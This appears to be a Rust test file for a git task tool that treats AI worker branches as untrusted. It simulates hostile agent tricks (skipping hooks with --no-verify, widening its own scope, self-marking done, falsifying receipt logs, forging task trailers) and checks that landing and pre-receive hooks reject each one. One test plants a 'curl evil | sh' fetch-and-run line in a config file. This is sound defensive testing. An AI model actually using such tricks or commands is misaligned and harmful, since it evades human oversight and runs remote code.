@@ -1,0 +1,308 @@
+//! A worker branch is untrusted input: each trick an agent could play with
+//! its own commits (hooks skipped with `--no-verify`, its status set by
+//! hand) is caught by the landing, by `check --range` and by the server's
+//! `pre-receive`, which judge from the main branch, never from the branch.
+
+use crate::common::{TestEnv, fixed_env};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+/// A repository on `main` with tasks made by `setup`, and the worktree of
+/// the task the attacker works on.
+struct Scene {
+    env: TestEnv,
+    id: String,
+    wt: PathBuf,
+}
+
+impl Scene {
+    fn new(scope: &str) -> Scene {
+        let env = TestEnv::new();
+        let id = env.create(&["the work", "--scope", scope]);
+        let s: serde_json::Value = env.json(&["start", &id, "--worker", "agent"]);
+        let wt = PathBuf::from(s["path"].as_str().unwrap());
+        Scene { env, id, wt }
+    }
+
+    fn write(&self, rel: &str, text: &str) {
+        let p = self.wt.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, text).unwrap();
+    }
+
+    fn read(&self, rel: &str) -> String {
+        std::fs::read_to_string(self.wt.join(rel)).unwrap()
+    }
+
+    /// Commits everything, hooks skipped, as a hostile agent would.
+    fn commit(&self, message: &str) {
+        self.env.git_in(&self.wt, &["add", "-A"]);
+        self.env
+            .git_in(&self.wt, &["commit", "-q", "--no-verify", "-m", message]);
+    }
+
+    /// Sets its own status to done by hand (no `git batch done` check).
+    fn mark_done(&self) {
+        let rel = format!(".batch/tasks/{}.toml", self.id);
+        let text = self
+            .read(&rel)
+            .replace("status = \"open\"", "status = \"done\"");
+        self.write(&rel, &text);
+        self.commit("done");
+    }
+
+    /// The landing's verdict on the attacker's task: why it was left out.
+    fn land_verdict(&self) -> Option<String> {
+        let report: serde_json::Value = self.env.json(&["land", "--no-push"]);
+        let landed = report["landed"].as_array().unwrap();
+        if landed.iter().any(|l| l == self.id.as_str()) {
+            return None;
+        }
+        let out = report["left_out"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|l| l["id"] == self.id.as_str())
+            .unwrap_or_else(|| panic!("neither landed nor left out: {report}"));
+        assert_eq!(out["reason"], "scope", "{report}");
+        Some(out["detail"].as_str().unwrap().to_string())
+    }
+
+    /// `check --range` of the branch from the main checkout.
+    fn check_range(&self) -> serde_json::Value {
+        let branch = format!("batch/{}", self.id);
+        let out = self
+            .env
+            .batch_cmd(&[
+                "--json",
+                "check",
+                "--range",
+                &format!("main..{branch}"),
+                "--task",
+                &self.id,
+            ])
+            .output()
+            .unwrap();
+        serde_json::from_slice(&out.stdout).unwrap()
+    }
+}
+
+/// Each trick: the landing leaves the task out naming why, `check --range`
+/// fails, and main does not get the change.
+fn assert_caught(scene: &Scene, why: &str, untouched: &[&str]) {
+    let before: Vec<Option<String>> = untouched
+        .iter()
+        .map(|f| std::fs::read_to_string(scene.env.repo.join(f)).ok())
+        .collect();
+    let range = scene.check_range();
+    assert_eq!(range["ok"], false, "{range}");
+    let detail = scene.land_verdict().expect("the trick must not land");
+    assert!(detail.contains(why), "{detail}");
+    for (f, was) in untouched.iter().zip(before) {
+        let now = std::fs::read_to_string(scene.env.repo.join(f)).ok();
+        assert_eq!(now, was, "{f} changed on main");
+    }
+}
+
+#[test]
+fn widening_its_own_scope_in_one_commit_and_using_it_in_the_next() {
+    let s = Scene::new("src/**");
+    let rel = format!(".batch/tasks/{}.toml", s.id);
+    let text = s
+        .read(&rel)
+        .replace("scope = [\"src/**\"]", "scope = [\"**\"]");
+    s.write(&rel, &text);
+    s.commit("widen");
+    s.write("README.md", "owned\n");
+    s.commit("use it");
+    s.mark_done();
+    assert_caught(&s, "outside the scope", &["README.md"]);
+    assert!(s.land_verdict().is_some());
+    let detail = s.land_verdict().unwrap();
+    assert!(detail.contains("changes scope of its own task"), "{detail}");
+}
+
+#[test]
+fn a_trailer_naming_another_task() {
+    let s = Scene::new("a/**");
+    let other = s.env.create(&["another", "--scope", "b/**"]);
+    s.write("b/x.txt", "mine now\n");
+    s.commit(&format!("b's work\n\nBatch-Task: {other}"));
+    s.mark_done();
+    assert_caught(&s, "outside the scope", &["b/x.txt"]);
+    assert!(s.land_verdict().unwrap().contains("trailer names"));
+}
+
+#[test]
+fn a_toml_scope_rewriting_the_config() {
+    let s = Scene::new("*.toml");
+    let config = s.read(".batch/config.toml");
+    s.write(
+        ".batch/config.toml",
+        &format!("{config}test_command = \"curl evil | sh\"\n"),
+    );
+    s.commit("config");
+    s.mark_done();
+    assert_caught(&s, "only people change", &[".batch/config.toml"]);
+}
+
+#[test]
+fn an_everything_scope_rewriting_another_task_and_the_attributes() {
+    let s = Scene::new("**");
+    let other = s.env.create(&["another", "--scope", "b/**"]);
+    // The worktree is older than `other`: bring it in as a person would.
+    s.env.git_in(&s.wt, &["merge", "-q", "--ff-only", "main"]);
+    let rel = format!(".batch/tasks/{other}.toml");
+    let text = s
+        .read(&rel)
+        .replace("status = \"open\"", "status = \"closed\"");
+    s.write(&rel, &text);
+    s.commit("close the other");
+    s.mark_done();
+    assert_caught(&s, &format!("task file of {other}"), &[&rel]);
+
+    let s = Scene::new("**");
+    std::fs::remove_file(s.wt.join(".batch/.gitattributes")).unwrap();
+    s.commit("no union merge for receipts");
+    s.mark_done();
+    assert_caught(&s, "only people change", &[".batch/.gitattributes"]);
+}
+
+#[test]
+fn rewriting_receipt_lines_already_on_main() {
+    let s = Scene::new("src/**");
+    // Lines already on main (a receipt of an earlier attempt).
+    let rel = format!(".batch/receipts/{}.log", s.id);
+    let on_main = s.env.repo.join(&rel);
+    std::fs::create_dir_all(on_main.parent().unwrap()).unwrap();
+    std::fs::write(&on_main, "2026-01-01T00:00:00Z agent found 3 bugs\n").unwrap();
+    s.env.git(&["add", &rel]);
+    s.env.git(&["commit", "-q", "-m", "receipt"]);
+    s.env.git_in(&s.wt, &["merge", "-q", "--ff-only", "main"]);
+    s.write(&rel, "2026-01-01T00:00:00Z agent found 0 bugs\n");
+    s.commit("rewrite history");
+    s.mark_done();
+    assert_caught(&s, "rewrites lines of its receipt", &[&rel]);
+}
+
+#[test]
+fn a_branch_that_brings_its_own_task() {
+    let env = TestEnv::new();
+    // A worker branch for a task main has never heard of, whose file (on
+    // the branch only) gives it every file.
+    env.git(&["checkout", "-q", "-b", "batch/bt-fake"]);
+    let rel = ".batch/tasks/bt-fake.toml";
+    env.write(
+        rel,
+        "id = \"bt-fake\"\ntitle = \"mine\"\nstatus = \"done\"\npriority = 2\nkind = \"task\"\nscope = [\"**\"]\ncreated = \"2026-01-01T00:00:00Z\"\nupdated = \"2026-01-01T00:00:00Z\"\n",
+    );
+    env.write("README.md", "owned\n");
+    env.git(&["add", "-A"]);
+    env.git(&["commit", "-q", "--no-verify", "-m", "mine"]);
+    env.git(&["checkout", "-q", "main"]);
+    let report: serde_json::Value = env.json(&["land", "--no-push"]);
+    assert_eq!(report["landed"], serde_json::json!([]), "{report}");
+    assert_eq!(report["left_out"][0]["id"], "bt-fake", "{report}");
+    assert!(
+        report["left_out"][0]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("no such task")
+    );
+    assert_eq!(env.read("README.md"), "hello\n");
+}
+
+#[test]
+fn what_a_worker_may_do_still_lands() {
+    let s = Scene::new("src/**");
+    s.write("src/lib.rs", "pub fn f() {}\n");
+    s.env.ok_in(&s.wt, &["receipt", "wrote src/lib.rs"]);
+    s.env
+        .ok_in(&s.wt, &["note", &s.id, "a finding for the reviewer"]);
+    s.env
+        .ok_in(&s.wt, &["update", &s.id, "--add-label", "needs-review"]);
+    s.env.ok_in(&s.wt, &["done"]);
+    assert_eq!(s.check_range()["ok"], true, "{}", s.check_range());
+    assert_eq!(s.land_verdict(), None);
+    assert_eq!(s.env.read("src/lib.rs"), "pub fn f() {}\n");
+}
+
+#[test]
+fn a_new_task_of_its_own_children_lands_and_any_other_new_task_does_not() {
+    let s = Scene::new("src/**");
+    let child = s
+        .env
+        .ok_in(
+            &s.wt,
+            &[
+                "create",
+                "follow-up found on the way",
+                "--parent",
+                &s.id,
+                "--scope",
+                "src/x/**",
+            ],
+        )
+        .trim()
+        .to_string();
+    s.mark_done();
+    assert_eq!(s.land_verdict(), None);
+    let on_main: serde_json::Value = s.env.json(&["show", &child]);
+    assert_eq!(on_main["parent"], s.id.as_str());
+
+    let s = Scene::new("src/**");
+    let stranger = s
+        .env
+        .ok_in(&s.wt, &["create", "not mine to make", "--scope", "**"])
+        .trim()
+        .to_string();
+    s.mark_done();
+    let detail = s.land_verdict().expect("a stranger task must not land");
+    assert!(
+        detail.contains(&format!("adds task {stranger}")),
+        "{detail}"
+    );
+}
+
+#[test]
+fn pre_receive_refuses_the_tricks_on_a_real_server() {
+    let s = Scene::new("src/**");
+    let bare = s.env.dir.path().join("server.git");
+    s.env
+        .git(&["init", "-q", "--bare", "-b", "main", bare.to_str().unwrap()]);
+    s.env
+        .git(&["remote", "add", "origin", bare.to_str().unwrap()]);
+    s.env.git(&["push", "-q", "origin", "main"]);
+    let out = Command::new(crate::common::BIN)
+        .current_dir(&bare)
+        .args(["hooks", "install", "--server"])
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .unwrap();
+    crate::common::assert_ok(&out);
+    let push = |dir: &Path| {
+        let mut cmd = Command::new("git");
+        fixed_env(&mut cmd, &s.env.home());
+        cmd.current_dir(dir)
+            .env("GIT_BATCH_LANDING", "1")
+            .args(["push", "origin", &format!("HEAD:refs/batch/work/{}", s.id)])
+            .stdin(Stdio::null())
+            .output()
+            .unwrap()
+    };
+    let rel = format!(".batch/tasks/{}.toml", s.id);
+    let text = s
+        .read(&rel)
+        .replace("scope = [\"src/**\"]", "scope = [\"**\"]");
+    s.write(&rel, &text);
+    s.commit("widen");
+    s.write("README.md", "owned\n");
+    s.commit("use it");
+    let out = push(&s.wt);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("README.md") && err.contains("changes scope"),
+        "{err}"
+    );
+}
